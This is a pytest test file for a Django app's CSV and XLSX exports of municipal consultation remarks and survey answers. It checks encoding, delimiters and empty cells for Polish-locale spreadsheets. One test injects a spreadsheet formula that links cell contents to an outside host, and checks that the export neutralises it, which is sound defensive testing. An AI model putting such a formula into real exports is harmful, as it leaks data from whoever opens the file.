"""The staff exports (remarks inbox, survey answers) open in a Polish spreadsheet program as data:
UTF-8 with a byte-order mark, `;` between cells, empty cells empty, formulas neutralised."""

import codecs
import csv
import datetime
import io

from django.utils import timezone

import openpyxl
import pytest

from forms.models import Channel
from tests.forms_support import RemarkFactory, answer, clear_cache, consultation, survey  # noqa: F401

pytestmark = pytest.mark.usefixtures("clear_cache")

INBOX = "/admin/forms/remark/"


def open_as_polish_spreadsheet(content):
    """The cells Excel in a Polish locale shows for a double-clicked CSV file: it reads UTF-8 only
    after a byte-order mark (Windows-1250 otherwise) and splits cells at `;`."""
    if content.startswith(codecs.BOM_UTF8):
        text = content[len(codecs.BOM_UTF8) :].decode("utf-8")
    else:
        text = content.decode("cp1250", errors="replace")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))


def exported(admin_client, url, **query):
    response = admin_client.get(url, query)
    assert response.status_code == 200
    return b"".join(response.streaming_content) if response.streaming else response.content


def as_records(rows):
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


@pytest.fixture
def remark(site):
    return RemarkFactory(
        consultation=consultation(title="Zieleń w Łagiszy", slug="zielen-w-lagiszy"),
        channel=Channel.LETTER,
        author_name="Łucja Śródecka",
        author_email="",
        author_organisation="",
        subject="Źródełko, ławki, żywopłot",
        text="Proszę o ławki; także przy źródełku, obok żywopłotu.",
        position="",
        reasoning="",
        received_at=timezone.make_aware(datetime.datetime(2026, 7, 1, 10, 30), timezone.get_default_timezone()),
    )


@pytest.fixture
def answered_survey(site):
    page = survey(
        consultation(),
        fields=[
            ("Dzielnica", "dropdown", "Śródmieście\nŁagisza", False),
            ("Czym dojeżdżasz", "checkboxes", "Autobus\nRower", False),
            ("Twoja opinia", "multiline", "", False),
            ("Mieszkam w Będzinie", "checkbox", "", False),
        ],
    )
    submission = answer(
        page, dzielnica="Łagisza", czym_dojezdzasz=["Autobus", "Rower"], twoja_opinia="", mieszkam_w_bedzinie=True
    )
    submission.submit_time = timezone.make_aware(datetime.datetime(2026, 7, 1, 9, 5), timezone.get_default_timezone())
    submission.save()
    return page


def test_remarks_csv_starts_with_a_byte_order_mark(admin_client, remark):
    assert exported(admin_client, INBOX, export="csv").startswith(codecs.BOM_UTF8)


def test_remarks_csv_says_it_is_utf8(admin_client, remark):
    response = admin_client.get(INBOX, {"export": "csv"})
    assert response["Content-Type"] == "text/csv; charset=utf-8"


def test_remarks_csv_keeps_polish_letters_in_a_polish_spreadsheet(admin_client, remark):
    [row] = as_records(open_as_polish_spreadsheet(exported(admin_client, INBOX, export="csv")))
    assert row["Imię i nazwisko"] == "Łucja Śródecka"
    assert row["Konsultacje"] == "Zieleń w Łagiszy"
    assert row["Forma zgłoszenia"] == "Pismo"


def test_remarks_csv_keeps_commas_and_semicolons_inside_their_cell(admin_client, remark):
    [row] = as_records(open_as_polish_spreadsheet(exported(admin_client, INBOX, export="csv")))
    assert row["Temat"] == "Źródełko, ławki, żywopłot"
    assert row["Treść uwagi"] == "Proszę o ławki; także przy źródełku, obok żywopłotu."


def test_remarks_csv_leaves_cells_without_a_value_empty(admin_client, remark):
    [row] = as_records(open_as_polish_spreadsheet(exported(admin_client, INBOX, export="csv")))
    assert row["E-mail"] == ""
    assert row["Organizacja"] == ""
    assert row["Stanowisko miasta"] == ""
    assert row["Uzasadnienie stanowiska"] == ""


def test_remarks_csv_still_shows_a_formula_as_text(admin_client, remark):
    remark.text = '=HYPERLINK("https://example.com/?"&A1)'
    remark.save()
    [row] = as_records(open_as_polish_spreadsheet(exported(admin_client, INBOX, export="csv")))
    assert row["Treść uwagi"] == '\'=HYPERLINK("https://example.com/?"&A1)'


def test_remarks_xlsx_leaves_cells_without_a_value_empty(admin_client, remark):
    sheet = openpyxl.load_workbook(io.BytesIO(exported(admin_client, INBOX, export="xlsx"))).active
    headings, values = ([cell.value for cell in row] for row in sheet.iter_rows())
    row = dict(zip(headings, values, strict=True))
    assert row["Imię i nazwisko"] == "Łucja Śródecka"
    assert row["Organizacja"] in (None, "")
    assert row["Stanowisko miasta"] in (None, "")


def test_survey_csv_opens_in_a_polish_spreadsheet(admin_client, answered_survey):
    content = exported(admin_client, f"/admin/forms/submissions/{answered_survey.pk}/", export="csv")
    [row] = as_records(open_as_polish_spreadsheet(content))
    assert row["Dzielnica"] == "Łagisza"
    assert row["Czym dojeżdżasz"] == "Autobus, Rower"


def test_survey_csv_leaves_unanswered_questions_empty(admin_client, answered_survey):
    content = exported(admin_client, f"/admin/forms/submissions/{answered_survey.pk}/", export="csv")
    [row] = as_records(open_as_polish_spreadsheet(content))
    assert row["Twoja opinia"] == ""


def test_survey_csv_gives_the_submission_time_in_warsaw_time(admin_client, answered_survey):
    content = exported(admin_client, f"/admin/forms/submissions/{answered_survey.pk}/", export="csv")
    [row] = as_records(open_as_polish_spreadsheet(content))
    assert "2026-07-01 09:05" in row.values()


def test_survey_csv_writes_a_ticked_checkbox_in_polish(admin_client, answered_survey):
    content = exported(admin_client, f"/admin/forms/submissions/{answered_survey.pk}/", export="csv")
    [row] = as_records(open_as_polish_spreadsheet(content))
    assert row["Mieszkam w Będzinie"] == "tak"


def test_survey_xlsx_still_opens(admin_client, answered_survey):
    content = exported(admin_client, f"/admin/forms/submissions/{answered_survey.pk}/", export="xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    values = [cell.value for row in sheet.iter_rows() for cell in row]
    assert "Łagisza" in values
    assert datetime.datetime(2026, 7, 1, 9, 5) in values
